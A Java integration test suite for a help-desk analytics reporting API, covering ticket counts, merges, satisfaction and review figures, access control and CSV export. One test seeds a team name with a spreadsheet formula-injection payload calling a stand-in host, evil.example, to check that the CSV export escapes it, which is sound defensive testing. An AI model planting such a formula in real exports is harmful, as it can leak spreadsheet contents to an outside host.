package org.stonechat.analytics;

import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.UUID;

import org.hamcrest.Matchers;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.stonechat.testing.EventSender;
import org.stonechat.testing.Proves;
import org.stonechat.testing.Tokens;
import org.stonechat.testing.WithRealParts;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.ValidatableResponse;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

@QuarkusTest
@WithRealParts
class ReportsIT {

    private static final Duration PATIENCE = Duration.ofSeconds(90);
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private final UUID department = UUID.randomUUID();
    private final UUID team = UUID.randomUUID();
    private final UUID alice = Tokens.of("alice").id();
    private final String lead =
            Tokens.of("lena").role("lead").department(department).build();
    private final String admin = Tokens.of("ada").role("admin").allDepartments().build();

    private EventSender sender;

    @BeforeEach
    void open() {
        sender = EventSender.open();
    }

    @AfterEach
    void close() {
        sender.close();
    }

    @Test
    @Proves({"A-2", "A-3"})
    void shouldCountATicketThroughItsLifeAndEachEventOnce() {
        UUID ticket = UUID.randomUUID();
        for (int round = 0; round < 2; round++) {
            liveOf(ticket);
        }

        awaitTickets(department, 1, 1, 1);
        await().atMost(PATIENCE).untilAsserted(() -> report("times").body("resolution.count", Matchers.equalTo(2)));
        JsonPath report = report("tickets").extract().jsonPath();
        assertThat(report.getLong("rows[0].oneTouch")).isEqualTo(1);
        assertThat(report.getDouble("rows[0].oneTouchShare")).isEqualTo(1.0);
        assertThat(report.getLong("backlog")).isZero();
        assertThat(report.getString("asOf")).isNotNull();
        report("times")
                .body("firstReply.count", Matchers.equalTo(1))
                .body("firstReply.median", Matchers.notNullValue());
        given().auth()
                .oauth2(lead)
                .queryParam("groupBy", "CHANNEL")
                .get("/api/v1/reports/tickets.csv")
                .then()
                .statusCode(200)
                .contentType("text/csv")
                .body(Matchers.startsWith("key,label,created"))
                .body(Matchers.containsString("MAIL"));
    }

    @Test
    @Proves("A-2")
    void shouldWriteNoWordIntoAFileThatASpreadsheetRuns() {
        String name = "=HYPERLINK(\"https://evil.example/\"&B1)";
        ObjectNode defined = JSON.objectNode()
                .put("id", team.toString())
                .put("name", name)
                .put("slug", "team-" + team)
                .put("visibility", "PORTAL_AND_INTERNAL");
        defined.putArray("departmentIds").add(department.toString());
        defined.putArray("memberIds");
        sender.send("directory", "TeamDefined", team, 1, defined, JSON.objectNode());
        liveOf(UUID.randomUUID());
        awaitTickets(department, 1, 1, 1);
        await().atMost(PATIENCE)
                .untilAsserted(() -> report("tickets?groupBy=TEAM").body("rows[0].label", Matchers.equalTo(name)));

        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        String period = today.minusDays(30) + "_to_" + today.plusDays(1);
        String file = given().auth()
                .oauth2(lead)
                .queryParam("groupBy", "TEAM")
                .queryParam("from", today.minusDays(30) + "T00:00:00Z")
                .queryParam("to", today.plusDays(1) + "T00:00:00Z")
                .get("/api/v1/reports/tickets.csv")
                .then()
                .statusCode(200)
                .header(
                        "Content-Disposition",
                        "attachment; filename=\"tickets " + period.replace("_", " ")
                                + ".csv\"; filename*=UTF-8''tickets%20" + period.replace("_", "%20") + ".csv")
                .extract()
                .asString();

        assertThat(file).contains(team + "\",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
    }

    @Test
    @Proves({"A-2", "T-17"})
    void shouldTakeAMergedTicketOutOfTheBacklogUntilTheMergeIsUndone() {
        UUID survivor = UUID.randomUUID();
        UUID alias = UUID.randomUUID();
        for (UUID ticket : new UUID[] {survivor, alias}) {
            sender.send("tickets", "TicketCreated", ticket, 1, standing(ticket, department, "NEW"), JSON.objectNode());
        }
        awaitBacklog(2);

        for (UUID ticket : new UUID[] {survivor, alias}) {
            sender.send("tickets", "TicketMerged", ticket, 2, merge(ticket, survivor, alias), JSON.objectNode());
        }
        awaitBacklog(1);
        // What is heard of an alias later does not bring it back, nor does hearing of the merge again.
        sender.send("tickets", "TagsChanged", alias, 3, standing(alias, department, "OPEN"), JSON.objectNode());
        sender.send("tickets", "TicketMerged", alias, 2, merge(alias, survivor, alias), JSON.objectNode());
        sender.send(
                "tickets", "StageChanged", survivor, 3, change(survivor, "OPEN", "SOLVED", false), JSON.objectNode());
        awaitBacklog(0);

        sender.send("tickets", "MergeUndone", alias, 4, merge(alias, survivor, alias), JSON.objectNode());
        sender.send("tickets", "MergeUndone", survivor, 4, mergeOfSolved(survivor, alias), JSON.objectNode());
        awaitBacklog(1);
        awaitTickets(department, 2, 1, 0);
    }

    @Test
    @Proves("A-4")
    void shouldShowSharesPerFaceAndTheResponseRate() {
        UUID answered = UUID.randomUUID();
        UUID open = UUID.randomUUID();
        sender.send("ratings", "RatingRequested", answered, 1, rating(answered), JSON.objectNode());
        sender.send("ratings", "RatingRequested", open, 1, rating(open), JSON.objectNode());
        sender.send(
                "ratings", "RatingGiven", answered, 2, rating(answered).put("face", "SATISFIED"), JSON.objectNode());

        await().atMost(PATIENCE)
                .untilAsserted(() -> report("satisfaction")
                        .body("rows[0].requested", Matchers.equalTo(2))
                        .body("rows[0].given", Matchers.equalTo(1))
                        .body("rows[0].responseRate", Matchers.equalTo(0.5f))
                        .body("rows[0].satisfied", Matchers.equalTo(1)));
    }

    @Test
    @Proves("A-5")
    void shouldShowStarsAndHowManyReviewsWereAnswered() {
        UUID answered = UUID.randomUUID();
        UUID open = UUID.randomUUID();
        sender.send("reviews", "ReviewImported", answered, 1, review(answered, 2), JSON.objectNode());
        sender.send("reviews", "ReviewReplied", answered, 2, review(answered, 2), JSON.objectNode());
        sender.send("reviews", "ReviewImported", open, 1, review(open, 5), JSON.objectNode());

        await().atMost(PATIENCE)
                .untilAsserted(() -> report("reviews")
                        .body("figures.received", Matchers.equalTo(2))
                        .body("figures.answered", Matchers.equalTo(1))
                        .body("figures.grade", Matchers.equalTo(3.5f))
                        .body("figures.stars.two", Matchers.equalTo(1))
                        .body("figures.stars.five", Matchers.equalTo(1)));
    }

    @Test
    @Proves("A-5")
    void shouldCountWhatWasAnsweredElsewhereAsAnswered() {
        UUID elsewhere = UUID.randomUUID();
        UUID open = UUID.randomUUID();
        UUID both = UUID.randomUUID();
        UUID removed = UUID.randomUUID();
        for (UUID review : new UUID[] {elsewhere, open, both, removed}) {
            sender.send("reviews", "ReviewImported", review, 1, review(review, 3), JSON.objectNode());
        }
        for (UUID review : new UUID[] {elsewhere, both, removed}) {
            sender.send("reviews", "ReviewAnsweredElsewhere", review, 2, answeredElsewhere(review), JSON.objectNode());
        }
        sender.send("reviews", "ReviewReplied", both, 3, review(both, 3), JSON.objectNode());
        sender.send("reviews", "ReviewReplyRemoved", removed, 3, review(removed, 3), JSON.objectNode());

        await().atMost(PATIENCE)
                .untilAsserted(() -> report("reviews")
                        .body("figures.received", Matchers.equalTo(4))
                        .body("figures.answered", Matchers.equalTo(1))
                        .body("figures.answeredElsewhere", Matchers.equalTo(1))
                        .body("figures.unanswered", Matchers.equalTo(2))
                        .body("figures.answeredShare", Matchers.equalTo(0.5f))
                        .body("figures.medianSecondsToAnswer", Matchers.notNullValue()));
    }

    @Test
    @Proves("G-4")
    void shouldRefuseWhoMayNotSee() {
        for (String path : new String[] {"tickets", "tickets.csv", "times", "satisfaction", "reviews"}) {
            given().get("/api/v1/reports/" + path).then().statusCode(401);
            given().auth()
                    .oauth2(Tokens.of("alice")
                            .role("agent")
                            .department(department)
                            .build())
                    .get("/api/v1/reports/" + path)
                    .then()
                    .statusCode(403);
            given().auth()
                    .oauth2(lead)
                    .queryParam("department", UUID.randomUUID())
                    .get("/api/v1/reports/" + path)
                    .then()
                    .statusCode(404);
            given().auth()
                    .oauth2(lead)
                    .queryParam("from", "yesterday")
                    .get("/api/v1/reports/" + path)
                    .then()
                    .statusCode(Matchers.oneOf(400, 404))
                    .contentType("application/problem+json");
            given().auth()
                    .oauth2(lead)
                    .queryParam("from", "2026-01-02T00:00:00Z")
                    .queryParam("to", "2026-01-01T00:00:00Z")
                    .get("/api/v1/reports/" + path)
                    .then()
                    .statusCode(400)
                    .contentType("application/problem+json");
        }
    }

    @Test
    void shouldShowNothingOfOtherDepartments() {
        UUID elsewhere = UUID.randomUUID();
        UUID ticket = UUID.randomUUID();
        sender.send("tickets", "TicketCreated", ticket, 1, standing(ticket, elsewhere, "NEW"), JSON.objectNode());
        await().atMost(PATIENCE)
                .untilAsserted(() -> given().auth()
                        .oauth2(admin)
                        .queryParam("department", elsewhere)
                        .get("/api/v1/reports/tickets")
                        .then()
                        .body("rows[0].created", Matchers.equalTo(1)));

        report("tickets").body("rows", Matchers.empty()).body("backlog", Matchers.equalTo(0));
    }

    private void liveOf(UUID ticket) {
        sender.send("tickets", "TicketCreated", ticket, 1, standing(ticket, department, "NEW"), JSON.objectNode());
        sender.send(
                "tickets",
                "MessageAdded",
                ticket,
                2,
                standing(ticket, department, "OPEN").put("kind", "PUBLIC_REPLY"),
                JSON.objectNode());
        sender.send("tickets", "StageChanged", ticket, 3, change(ticket, "OPEN", "SOLVED", true), JSON.objectNode());
        sender.send("tickets", "StageChanged", ticket, 4, change(ticket, "SOLVED", "OPEN", false), JSON.objectNode());
        sender.send("tickets", "StageChanged", ticket, 5, change(ticket, "OPEN", "SOLVED", false), JSON.objectNode());
        sender.send("tickets", "StageChanged", ticket, 6, change(ticket, "SOLVED", "CLOSED", false), JSON.objectNode());
    }

    private ValidatableResponse report(String name) {
        return given().auth().oauth2(lead).get("/api/v1/reports/" + name).then().statusCode(200);
    }

    private void awaitTickets(UUID of, int created, int solved, int reopened) {
        await().atMost(PATIENCE)
                .untilAsserted(() -> given().auth()
                        .oauth2(admin)
                        .queryParam("department", of)
                        .get("/api/v1/reports/tickets")
                        .then()
                        .body("rows[0].created", Matchers.equalTo(created))
                        .body("rows[0].solved", Matchers.equalTo(solved))
                        .body("rows[0].reopened", Matchers.equalTo(reopened)));
    }

    private ObjectNode standing(UUID ticket, UUID inDepartment, String category) {
        ObjectNode data = JSON.objectNode()
                .put("ticketId", ticket.toString())
                .put("number", 10001)
                .put("departmentId", inDepartment.toString())
                .put("teamId", team.toString())
                .put("assigneeId", alice.toString())
                .put("contactId", UUID.randomUUID().toString())
                .put("priority", "NORMAL")
                .put("escalated", false)
                .put("channel", "MAIL")
                .put("language", "en");
        data.set("stage", stage(category));
        return data;
    }

    private JsonNode stage(String category) {
        return JSON.objectNode().put("id", UUID.randomUUID().toString()).put("category", category);
    }

    private ObjectNode change(UUID ticket, String from, String to, boolean oneTouch) {
        ObjectNode data = standing(ticket, department, to).put("oneTouch", oneTouch);
        data.set("from", stage(from));
        data.set("to", stage(to));
        return data;
    }

    private ObjectNode merge(UUID ticket, UUID survivor, UUID alias) {
        return merge(standing(ticket, department, "OPEN"), survivor, alias);
    }

    private ObjectNode mergeOfSolved(UUID survivor, UUID alias) {
        return merge(standing(survivor, department, "SOLVED"), survivor, alias);
    }

    private static ObjectNode merge(ObjectNode standing, UUID survivor, UUID alias) {
        return standing.put("survivorId", survivor.toString())
                .put("survivorNumber", 10001)
                .put("mergedTicketId", alias.toString())
                .put("mergedNumber", 10002);
    }

    private static ObjectNode answeredElsewhere(UUID review) {
        return JSON.objectNode()
                .put("reviewId", review.toString())
                .put("answeredAt", "2026-03-03T10:58:40Z")
                .put("reopen", false);
    }

    private void awaitBacklog(int open) {
        await().atMost(PATIENCE).untilAsserted(() -> report("tickets").body("backlog", Matchers.equalTo(open)));
    }

    private ObjectNode rating(UUID rating) {
        return JSON.objectNode()
                .put("ratingId", rating.toString())
                .put("ticketId", UUID.randomUUID().toString())
                .put("departmentId", department.toString())
                .put("teamId", team.toString());
    }

    private ObjectNode review(UUID review, int stars) {
        return JSON.objectNode()
                .put("reviewId", review.toString())
                .put("departmentId", department.toString())
                .put("platform", "TRUSTED_SHOPS")
                .put("kind", "SERVICE")
                .put("stars", stars)
                .put("rating", stars);
    }
}
